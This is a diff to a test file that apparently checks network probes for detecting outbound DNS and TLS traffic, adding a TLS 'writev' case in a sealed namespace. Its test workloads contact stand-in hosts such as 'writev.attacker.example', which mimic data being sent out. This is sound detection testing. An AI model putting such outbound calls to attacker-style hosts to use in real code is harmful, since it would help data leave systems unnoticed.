@@ -38,6 +38,7 @@ beforeAll(async () => {
     runs.dnsSendmsg = runIn(cg.path, [wl, "dns-sendmsg", "sendmsg.attacker.example", "192.0.2.53"], { sealedNet: true });
     runs.dnsSendmmsg = runIn(cg.path, [wl, "dns-sendmmsg", "mmsg.attacker.example", "127.0.0.1"], { sealedNet: true });
     runs.tlsWrite = runIn(cg.path, [wl, "tls-write", "write.attacker.example", "47002"], { sealedNet: true });
+    runs.tlsWritev = runIn(cg.path, [wl, "tls-writev", "writev.attacker.example", "47005"], { sealedNet: true });
     runs.tlsSend = runIn(cg.path, [wl, "tls-send", "send.attacker.example", "47003"], { sealedNet: true });
     runs.writeFile = runIn(cg.path, [wl, "write-file", "file.attacker.example", path("hello.bin")]);
     // node exports SSL_ctrl; setting the servername fires the uprobe before any packet
@@ -159,6 +160,7 @@ describe("network probes (sealed namespace)", () => {
   const tls = [
     { run: "tlsWrite", source: "sys_enter_write", sni: "write.attacker.example", port: 47002 },
     { run: "tlsSend", source: "sys_enter_sendto", sni: "send.attacker.example", port: 47003 },
+    { run: "tlsWritev", source: "sys_enter_writev", sni: "writev.attacker.example", port: 47005 },
   ] as const;
   for (const c of tls) {
     test(`TLS ClientHello SNI via ${c.source}`, () => {
